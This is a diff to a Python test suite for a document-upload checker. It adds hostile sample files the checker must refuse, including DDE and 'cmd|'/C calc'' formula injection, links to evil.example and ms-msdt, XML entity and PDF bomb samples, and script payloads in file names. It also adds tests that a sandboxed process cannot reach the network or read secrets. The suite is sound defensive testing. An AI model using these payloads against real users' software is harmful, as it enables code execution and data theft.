@@ -1,11 +1,13 @@
 """Each hostile file is refused for its own reason; what people honestly send comes through."""
 
 import json
+import re
 import string
 import subprocess
 import sys
 import unicodedata
 
+import pikepdf
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -13,7 +15,7 @@ from hypothesis import strategies as st
 from hub.documents import checks
 from hub.documents.checks import isolation, kinds, problems
 from rules.text import LANGUAGES
-from tests.documents import samples
+from tests.documents import hostile, samples
 
 GOOD = [
     ("Жарғы.pdf", samples.pdf, "pdf"),
@@ -28,6 +30,14 @@ GOOD = [
     ("Сурет телефоннан.JPG", samples.jpeg_of_phone, "jpeg"),
     ("дополнено нулями.jpg", lambda: samples.jpeg() + bytes(4096), "jpeg"),
     ("перевод строки.png", lambda: samples.png() + b"\n", "png"),
+    ("Сілтемесі бар.pdf", hostile.pdf_with_link, "pdf"),
+    ("Сканер.pdf", lambda: hostile.pdf_with_stream(hostile.flate_bomb(60), Filter=pikepdf.Name.FlateDecode), "pdf"),
+    ("LibreOffice құжаты.docx", hostile.word_of_libre_office, "docx"),
+    ("Оглавление.docx", lambda: hostile.word_with_field(" TOC ", '\\o "1-3" '), "docx"),
+    ("Беттер.docx", lambda: hostile.word_with_simple_field(" PAGE "), "docx"),
+    ("Рисунок.docx", lambda: hostile.word_with_drawing("<path d='M0 0'/>"), "docx"),
+    ("Хат.docx", lambda: hostile.word_with_link("mailto:info@example.kz"), "docx"),
+    ("Формула.xlsx", lambda: hostile.excel_with_formula("SUM('a|b'!A1:A3)&amp;\"x|y\""), "xlsx"),
 ]
 
 BAD = {
@@ -45,6 +55,7 @@ BAD = {
         ("a.png", lambda: samples.png()[:20]),
         ("a.png", samples.png_spoilt),
         ("no-pixels.png", lambda: samples.png_claiming(0, 9)),
+        ("frames.png", hostile.png_with_second_frame),
         ("a.jpg", lambda: samples.jpeg()[:-2]),
         ("half.jpg", lambda: samples.jpeg()[:400]),
         ("a.docx", lambda: samples.word()[:-30]),
@@ -65,6 +76,9 @@ BAD = {
         ("noise.pdf", lambda: b"\x00\x01\x02\x03" * 40),
         ("no ending", samples.pdf),
         ("letter.doc", samples.word),
+        ("drawing.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
+        ("drawing.pdf", lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>"),
+        ("page.jpg", lambda: b"\xef\xbb\xbf \n<html><script>alert(1)</script></html>"),
     ],
     "not_allowed": [
         ("setup.exe", lambda: samples.PROGRAM),
@@ -94,6 +108,7 @@ BAD = {
         ("macrosheet.xlsx", samples.excel_with_macrosheet),
         ("inner.docx", samples.word_with_workbook_of_macros),
         ("related.docx", lambda: samples.word_with_relation("vbaProject", "other.bin", outside=False)),
+        ("hidden.xlsx", samples.excel_of_macros),
     ],
     "embedded": [
         ("a.docx", lambda: samples.word_with({"word/embeddings/oleObject1.bin": samples.COMPOUND + bytes(99)})),
@@ -103,14 +118,34 @@ BAD = {
         ("deep.docx", lambda: samples.word_with({"word/embeddings/a.xlsx": samples.word_with_chart()})),
         ("a.docx", lambda: samples.word_with({"word/activeX/activeX1.xml": b"<ax/>"})),
         ("a.docx", lambda: samples.word_with_relation("aFChunk", "chunk.htm", outside=False)),
+        ("program.docx", lambda: hostile.word_with_cargo(samples.PROGRAM)),
+        ("page.docx", lambda: hostile.word_with_cargo(b"<html><script>alert(1)</script>")),
+        ("pdf.docx", lambda: hostile.word_with_cargo(samples.pdf())),
+        ("nested.docx", hostile.zip_in_zip),
+        ("script.docx", lambda: hostile.word_with_drawing("<script>alert(1)</script>")),
+        ("event.docx", lambda: hostile.word_with_drawing("<path onclick='alert(1)'/>")),
     ],
     "external": [
         ("a.docx", lambda: samples.word_with_relation("attachedTemplate", "https://evil.example/t.dotm")),
         ("a.docx", lambda: samples.word_with_relation("image", "file://10.0.0.1/share/a.png")),
         ("a.docx", lambda: samples.word_with_relation("oleObject", "https://evil.example/a.hta")),
         ("dde.xlsx", lambda: samples.zipped(samples.unzipped(samples.excel()) | {"xl/externalLinks/e.xml": b"<e/>"})),
+        ("dde.docx", lambda: hostile.word_with_field(" DD", "EAUTO ", "c:\\\\windows\\\\cmd.exe")),
+        ("include.docx", lambda: hostile.word_with_simple_field("INCLUDEPICTURE https://evil.example/a.png")),
+        ("formula.xlsx", lambda: hostile.excel_with_formula("cmd|'/C calc'!A0")),
+        ("letter.xlsx", lambda: hostile.excel_with_formula("cmd&#124;'/C calc'!A0")),
+        ("web.xlsx", lambda: hostile.excel_with_formula("_xlfn.WEBSERVICE(&quot;https://evil.example&quot;)")),
+        ("connection.xlsx", hostile.excel_with_connection),
+        ("script.docx", lambda: hostile.word_with_link("javascript:alert(1)")),
+        ("search.docx", lambda: hostile.word_with_link("ms-msdt:/id PCWDiagnostic")),
+        ("share.docx", lambda: hostile.word_with_link("file://10.0.0.1/share/a.docx")),
+        ("share2.docx", lambda: hostile.word_with_link("\\\\10.0.0.1\\share")),
+        ("inside.docx", lambda: samples.word_with_relation("image", "https://evil.example/a.png", outside=False)),
     ],
     "xml_entities": [
+        ("laughs.docx", hostile.word_with_billion_laughs),
+        ("passwd.docx", hostile.word_with_outside_entity),
+        ("ill-formed.docx", lambda: samples.word_with({"word/a.vml": b"<br><!DOCTYPE x [<!ENTITY a 'b'>]><x/>"})),
         ("a.docx", samples.word_with_dtd),
         ("utf16.docx", lambda: samples.word_with_dtd("utf-16")),
         ("vml.docx", samples.word_with_drawing_of_dtd),
@@ -119,6 +154,7 @@ BAD = {
         ("a.docx", lambda: samples.word_with({"word/document.xml": b"<w:document>"})),
         ("same.docx", samples.zip_of_same_names),
         ("climb.docx", samples.zip_climbing_out),
+        ("minds.docx", hostile.word_of_two_minds),
         (
             "norels.docx",
             lambda: samples.zipped({k: v for k, v in samples.unzipped(samples.word()).items() if k != "_rels/.rels"}),
@@ -131,26 +167,47 @@ BAD = {
         ("deep.pdf", samples.pdf_with_deep_script),
         ("locked.pdf", samples.pdf_with_script_for_reading_only),
         ("xfa.pdf", samples.pdf_form_of_xfa),
+        ("aa.pdf", hostile.pdf_with_additional_script),
+        ("named.pdf", hostile.pdf_with_named_script),
     ],
-    "pdf_launch": [("a.pdf", samples.pdf_with_launch)],
-    "pdf_attachment": [("a.pdf", samples.pdf_with_attachment)],
+    "pdf_launch": [
+        ("a.pdf", samples.pdf_with_launch),
+        ("form.pdf", hostile.pdf_that_sends_its_form),
+        ("remote.pdf", hostile.pdf_that_opens_a_file),
+        ("call.pdf", hostile.pdf_that_calls_on_opening),
+        ("turn.pdf", hostile.pdf_that_calls_on_turning_a_page),
+        ("page.pdf", hostile.pdf_with_outside_page),
+        ("stream.pdf", hostile.pdf_with_outside_stream),
+    ],
+    "pdf_attachment": [("a.pdf", samples.pdf_with_attachment), ("media.pdf", hostile.pdf_with_rich_media)],
     "zip_bomb": [
         ("ratio.docx", samples.zip_bomb),
         ("total.docx", samples.zip_of_great_total),
         ("many.docx", samples.zip_of_many_parts),
         ("overlap.docx", samples.zip_of_overlapping_parts),
         ("understated.docx", samples.zip_of_understated_size),
+        ("stream.pdf", hostile.pdf_bomb),
+        ("text.pdf", hostile.pdf_bomb_as_text),
+        ("twice.pdf", hostile.pdf_bomb_in_bomb),
+        ("runs.pdf", hostile.pdf_bomb_of_runs),
+        ("codes.pdf", hostile.pdf_bomb_of_codes),
     ],
     "pixel_flood": [
         ("a.png", lambda: samples.png_claiming(100_000, 100_000)),
         ("edge.png", lambda: samples.png_claiming(7_072, 7_072)),
         ("a.jpg", lambda: samples.jpeg_claiming(65_000, 65_000)),
+        ("a.pdf", hostile.pdf_with_pixel_flood),
     ],
     "polyglot": [
         ("junk.pdf", lambda: b"\n" + samples.pdf()),
         ("junk.docx", lambda: b"#!/bin/sh\n"[2:] + samples.word()),
         ("tail.pdf", lambda: samples.pdf() + b"A" * 2000),
         ("zip.pdf", lambda: samples.pdf() + samples.archive()),
+        ("inner-zip.pdf", hostile.pdf_with_zip_before_its_end),
+        ("zip-and-tail.pdf", lambda: samples.pdf() + samples.archive() + b"\n%%EOF\n"),
+        ("html.pdf", hostile.pdf_led_by_html),
+        ("text.png", hostile.png_with_zip_inside),
+        ("comment.jpg", hostile.jpeg_with_zip_inside),
         ("tail.png", lambda: samples.png() + b"<script>alert(1)</script>"),
         ("zip.png", lambda: samples.png() + samples.archive()),
         ("tail.jpg", lambda: samples.jpeg() + b"<script>alert(1)</script>"),
@@ -189,6 +246,15 @@ def test_an_honest_file_is_accepted(sent, name, build, kind):
 def test_a_hostile_file_is_refused_for_its_reason(sent, code, name, build):
     verdict = checks.check(sent(build()), name)
     assert (verdict.ok, verdict.kind, verdict.problem and verdict.problem.code) == (False, None, code)
+    for language in LANGUAGES:
+        told = verdict.problem.message.to(language)
+        assert any(pattern.fullmatch(told) for pattern in wordings(code, language)), told
+
+
+def wordings(code, language):
+    """The messages of a code with anything in their blanks."""
+    templates = [text.to(language) for key, text in problems.MESSAGES.items() if key.partition("/")[0] == code]
+    return [re.compile(re.sub(r"\\\{\w+\\\}", ".+", re.escape(template))) for template in templates]
 
 
 def test_every_code_has_a_hostile_sample():
@@ -252,6 +318,18 @@ def test_a_name_is_never_empty(blank):
         ("и\u0306.pdf", "й.pdf"),
         ("и\u200b\u0306 \x00 .pdf", "й.pdf"),
         ("я" * 300 + ".docx", "я" * 175 + ".docx"),
+        (".htaccess", "file.htaccess"),
+        ("--output=a.pdf", "output=a.pdf"),
+        ("=cmd|'/C calc'!A0.xlsx", "C calc'!A0.xlsx"),
+        ("@SUM(1).pdf", "SUM(1).pdf"),
+        ("CON.pdf", "file CON.pdf"),
+        ("com1.tar.pdf", "file com1.tar.pdf"),
+        ("Контракт.pdf", "Контракт.pdf"),
+        ("<b>қалың</b>.pdf", "b_.pdf"),
+        ("<img src=x onerror=alert(1)>.pdf", "_img src=x onerror=alert(1)_.pdf"),
+        ("a\u2028b\u2029c.pdf", "a b c.pdf"),
+        ("\u3164\u2800.pdf", "file.pdf"),
+        ("Шарт\u2066 (2)\u2069.pdf", "Шарт (2).pdf"),
     ],
 )
 def test_a_name_is_made_safe(given_name, kept):
@@ -319,9 +397,29 @@ def test_the_confined_process_can_answer():
     assert isolation.verdict_of(["-P", "-c", code], 30).ok
 
 
-def test_the_confined_process_sees_no_secrets(monkeypatch):
-    monkeypatch.setenv("SECRET_KEY", "hush")
-    peek = "import os; os.environ.get('SECRET_KEY') and os.abort(); "
+SHUT_OUT = "from hub.documents.checks.__main__ import shut_out; import os, socket, subprocess; shut_out(); "
+
+
+@pytest.mark.parametrize(
+    "deed",
+    [
+        "socket.socket()",
+        "socket.getaddrinfo('example.kz', 80)",
+        "subprocess.run(['true'])",
+        "os.system('true')",
+        "os.fork()",
+        "os.execv('/bin/true', ['true'])",
+    ],
+)
+def test_the_confined_process_reaches_nothing_outside(deed):
+    assert not isolation.verdict_of(["-P", "-c", f"{SHUT_OUT}{deed}; {ANSWER}"], 30).ok
+    assert isolation.verdict_of(["-P", "-c", SHUT_OUT + ANSWER], 30).ok, "without the deed it answers"
+
+
+@pytest.mark.parametrize("name", ["SECRET_KEY", "DATABASE_URL", "S3_SECRET_KEY", "EMAIL_HOST_PASSWORD"])
+def test_the_confined_process_sees_no_secrets(monkeypatch, name):
+    monkeypatch.setenv(name, "hush")
+    peek = "import os; 'hush' in os.environ.values() and os.abort(); "
     assert isolation.verdict_of(["-P", "-c", peek + ANSWER], 30).ok
 
 
